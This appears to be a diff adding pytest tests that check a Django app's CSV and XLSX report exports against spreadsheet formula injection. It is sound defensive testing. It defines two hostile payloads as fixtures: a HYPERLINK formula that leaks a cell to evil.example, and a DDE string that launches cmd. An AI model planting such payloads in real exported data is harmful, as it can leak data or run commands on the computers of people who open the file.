@@ -158,3 +158,75 @@ def test_national_export_for_a_viewer(scene: Scene) -> None:
     assert rows[1][0] == scene.mall.name
     assert rows[1][1] == "1"  # rank
     assert rows[1][2] == "5"  # tickets
+
+
+# --- formula injection ----------------------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")'
+DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def _xlsx_cells(response: Any) -> list[Any]:
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    return [cell for row in sheet.iter_rows() for cell in row]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_a_name_that_starts_like_a_formula_is_exported_as_text(scene: Scene, fmt: str) -> None:
+    scene.counter.name = HYPERLINK
+    scene.counter.save()
+    response = _supervisor_client(scene).get(
+        reverse("reports:export", args=[scene.mall.slug, "counters"]), _params(scene, fmt)
+    )
+    assert response.status_code == 200
+    if fmt == "csv":
+        names = [row[0] for row in _csv_rows(response)]
+        assert "'" + HYPERLINK in names
+        assert HYPERLINK not in names
+    else:
+        cells = [c for c in _xlsx_cells(response) if "HYPERLINK" in str(c.value)]
+        assert [(c.value, c.data_type) for c in cells] == [("'" + HYPERLINK, "s")]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_the_anonymous_transparency_export_is_safe_too(scene: Scene, fmt: str) -> None:
+    scene.agency1.name = DDE
+    scene.agency1.save()
+    response = Client().get(
+        reverse("reports:public-export", args=[scene.mall.slug]), {"preset": "12m", "format": fmt}
+    )
+    assert response.status_code == 200
+    if fmt == "csv":
+        cells = [cell for row in _csv_rows(response) for cell in row]
+    else:
+        assert all(c.data_type != "f" for c in _xlsx_cells(response))
+        cells = [c.value for c in _xlsx_cells(response)]
+    assert "'" + DDE in cells
+    assert DDE not in cells
+
+
+def test_every_formula_start_is_neutralised_and_numbers_stay_numbers() -> None:
+    from satupintu.reports.exports import spreadsheet_text, table_csv, table_xlsx
+
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert spreadsheet_text(f"{start}1+2") == f"'{start}1+2"
+    assert spreadsheet_text("Loket 1 - Dukcapil") == "Loket 1 - Dukcapil"
+    table = tables.Table(
+        slug="t",
+        title="Test",
+        columns=[tables.Column("name", "Nama"), tables.Column("delta", "Selisih", tables.INT)],
+        rows=[["-Loket", -5], ["+62 812", -2.5], ["Loket 2", None]],
+    )
+    sheet = load_workbook(io.BytesIO(table_xlsx(table))).active
+    rows = [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows(min_row=2)]
+    assert rows == [
+        [("'-Loket", "s"), (-5, "n")],
+        [("'+62 812", "s"), (-2.5, "n")],
+        [("Loket 2", "s"), (None, "n")],
+    ]
+    text = table_csv(table).decode("utf-8-sig")
+    assert list(csv.reader(io.StringIO(text)))[1:] == [
+        ["'-Loket", "-5"],
+        ["'+62 812", "-2.5"],
+        ["Loket 2", ""],
+    ]
